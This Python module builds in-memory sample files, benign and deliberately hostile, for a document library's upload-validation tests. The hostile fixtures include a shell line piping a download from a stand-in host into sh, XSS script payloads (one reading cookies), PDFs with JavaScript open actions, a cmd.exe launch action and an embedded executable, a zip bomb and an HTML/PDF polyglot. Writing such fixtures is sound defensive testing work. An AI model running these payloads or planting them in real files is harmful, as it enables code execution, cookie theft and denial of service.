"""Sample files for the document library's tests, built in memory: real ones and hostile ones."""

import io
import zipfile
import zlib

import docx
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas

CHINESE_BODY = "中国科学院与国家知识产权局同意加强专利信息资源共享，互惠互利，共同发展。"
ENGLISH_BODY = "The parties agree to share patent information and scientific literature."
CHINESE_TABLE_CELL = "国际专利分类号"

# One of reportlab's built-in Adobe CID fonts: nothing to embed, and pypdf maps its codes back to Unicode.
_CJK_FONT = "STSong-Light"
pdfmetrics.registerFont(UnicodeCIDFont(_CJK_FONT))


def _pdf(lines: list[str], font: str) -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, invariant=True)  # invariant: the same bytes on every run
    page.setFont(font, 14)
    for number, line in enumerate(lines):
        page.drawString(72, 760 - 24 * number, line)
    page.showPage()
    page.save()
    return buffer.getvalue()


def chinese_pdf() -> bytes:
    # drawString does not wrap: two lines, broken after a comma so no word is cut.
    first, rest = CHINESE_BODY.split("，", 1)
    return _pdf([first + "，", rest], _CJK_FONT)


def english_pdf() -> bytes:
    return _pdf([ENGLISH_BODY], "Helvetica")


def garbage_pdf() -> bytes:
    """Starts like a PDF, parses as nothing."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\nthis is not an object\n"


def many_pages_pdf(pages: int, text: str = "patent information ") -> bytes:
    """A minimal PDF whose every page shows `text`, written by hand: reportlab takes seconds for 10,000 pages."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (5 + n) for n in range(pages)) + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 3 0 R >> >> >>"
    )
    objects += [page] * pages
    return _written(objects)


def windows_executable() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 48
        + b"This program cannot be run in DOS mode."
    )


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def chinese_docx() -> bytes:
    document = docx.Document()
    document.add_heading("合作协议", level=1)
    document.add_paragraph(CHINESE_BODY)
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = CHINESE_TABLE_CELL
    table.cell(0, 1).text = "G06F 16/33"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def not_a_zip_docx() -> bytes:
    """What an old binary .doc renamed to .docx looks like: an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def ooxml(main_part: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A ZIP shaped like an Office file: content types and the given main part (and any extra members)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr(main_part, b'<?xml version="1.0" encoding="UTF-8"?><root/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_without_content_types() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", b"<root/>")
    return buffer.getvalue()


def zip_bomb_docx(unpacked_bytes: int) -> bytes:
    """A valid-looking DOCX with one member of zeros that inflates to `unpacked_bytes` (about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?><root/>')
        with archive.open("word/media/image1.bin", "w") as member:
            block = b"\x00" * 1024 * 1024
            for start in range(0, unpacked_bytes, len(block)):
                member.write(block[: unpacked_bytes - start])
    return buffer.getvalue()


def docx_of_zeros(zeros: int, stored: int) -> bytes:
    """A DOCX with a member of `zeros` zero bytes, deflated, and one of `stored` bytes kept as they are (a stored
    member adds as much to the packed size as to the unpacked one)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", b'<?xml version="1.0" encoding="UTF-8"?><root/>')
        archive.writestr("word/media/zeros.bin", bytes(zeros))
        archive.writestr("word/media/stored.bin", b"x" * stored, compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


def png(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


def html_as_text() -> bytes:
    return b'<!DOCTYPE html><html><body><script>alert("xss")</script><p>patent information</p></body></html>\n'


def gb18030_text() -> bytes:
    return CHINESE_BODY.encode("gb18030")


def utf8_bom_text() -> bytes:
    return "\ufeff".encode() + CHINESE_BODY.encode()


# Hostile PDFs: each one parses, and carries something a PDF reader would run or open.


def _rewritten(change) -> bytes:
    """english_pdf() read into pypdf's writer, changed by `change(writer)`, written out again."""
    writer = PdfWriter(clone_from=io.BytesIO(english_pdf()))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank_pdf() -> bytes:
    """A valid one-page PDF written by pypdf itself (not reportlab)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def html_with_pdf_header() -> bytes:
    """An HTML page that starts with the PDF header: it passed the old header-only check."""
    return b"%PDF-1.7\n<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"


def truncated_pdf() -> bytes:
    """A real PDF cut off halfway, as an interrupted transfer leaves it."""
    content = english_pdf()
    return content[: len(content) // 2]


def javascript_open_action_pdf() -> bytes:
    """Runs a script as soon as it is opened (/OpenAction with a /JavaScript action)."""

    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")}
        )

    return _rewritten(change)


def document_javascript_pdf() -> bytes:
    """A document-level script in the names tree, added the way pypdf documents it."""
    return _rewritten(lambda writer: writer.add_open_action(JavaScript("this.print({bUI: false});")))


def launch_action_pdf() -> bytes:
    """A link on the page whose action launches a program."""

    def change(writer: PdfWriter) -> None:
        launch = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(72), NumberObject(72), NumberObject(200), NumberObject(100)]
                ),
                NameObject("/A"): writer._add_object(launch),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return _rewritten(change)


def embedded_file_pdf() -> bytes:
    """A PDF carrying a program as an attachment."""
    return _rewritten(lambda writer: writer.add_attachment("setup.exe", windows_executable()))


def password_pdf(user_password: str) -> bytes:
    """AES-256 encrypted: with a user password it needs that to open; with "" it opens, restricted by its owner."""
    return _rewritten(lambda writer: writer.encrypt(user_password, owner_password="owner-secret", algorithm="AES-256"))


def handmade_pdf(catalog_entries: bytes, extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """One blank page, written byte by byte: for what pypdf's writer would normalise (escaped names, an action
    type given by reference). Objects 1-3 are the catalog, pages and page; extra ones are numbered from 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_entries + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *extra_objects,
    ]
    return _written(objects)


def object_stream_pdf(hidden: bytes, *, orphan_stream: bool = False) -> bytes:
    """One blank page whose catalog opens `hidden` (object 4), all four objects compressed in an object stream
    (object 5) and found through a cross-reference stream (object 6), as PDF 1.5 and later writers do: no name
    in them can be read from the raw bytes. `orphan_stream` adds an object stream no cross-reference names."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        hidden,
    ]
    offsets, body = [], b""
    for part in bodies:
        offsets.append(len(body))
        body += part + b"\n"
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(header + body)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    stream_at = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    if orphan_stream:
        out.write(b"7 0 obj\n<< /Type /ObjStm /N 0 /First 0 /Length 0 >>\nstream\n\nendstream\nendobj\n")
    xref_at = out.tell()
    entries = [(0, 0, 65535), *((2, 5, index) for index in range(4)), (1, stream_at, 0), (1, xref_at, 0)]
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big") for kind, field, extra in entries
    )
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def _written(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1, the first the catalog) with its cross-reference table, by hand."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()
